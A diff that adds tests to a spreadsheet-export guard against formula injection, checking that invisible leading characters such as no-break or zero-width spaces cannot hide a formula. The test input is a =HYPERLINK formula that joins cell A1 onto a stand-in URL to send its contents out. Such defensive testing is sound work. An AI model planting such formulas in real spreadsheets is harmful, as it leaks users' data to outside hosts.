@@ -98,6 +98,37 @@ def test_no_text_begins_like_a_formula_and_every_one_comes_back(text: str) -> No
     assert typed(guarded) == text
 
 
+UNSEEN = (
+    " ",
+    "\xa0",
+    "\u2003",
+    "\u3000",
+    "\u200b",
+    "\ufeff",
+    "\u2060",
+    "\x00",
+    "\x85",
+    "\u2028",
+    "\xad",
+    " \xa0\t ",
+)
+
+
+@pytest.mark.parametrize("before", UNSEEN, ids=ascii)
+@pytest.mark.parametrize("first", [sign for sign in FORMULA if not sign.isspace()], ids=ascii)
+def test_what_is_not_seen_hides_no_formula(before: str, first: str) -> None:
+    """A spreadsheet trims a no-break space and runs what follows: =HYPERLINK sends cells to others."""
+    text = f'{before}{first}HYPERLINK("https://example.org/"&A1)'
+    assert cell(text).startswith("'")
+    assert typed(cell(text)) == text
+
+
+@pytest.mark.parametrize("text", ["\xa0Ioan", " a = b", "Ioan = Deel", "\u200b"])
+def test_what_begins_no_formula_is_left_alone(text: str) -> None:
+    """Only what stands first counts."""
+    assert cell(text) == text
+
+
 @settings(max_examples=30)
 @given(st.lists(st.text(st.characters(codec="utf-8"), min_size=1, max_size=20), min_size=1, max_size=4))
 @example(["a,b", 'c"d', "e\nf\r\ng\rh", "=HYPERLINK(1)"])
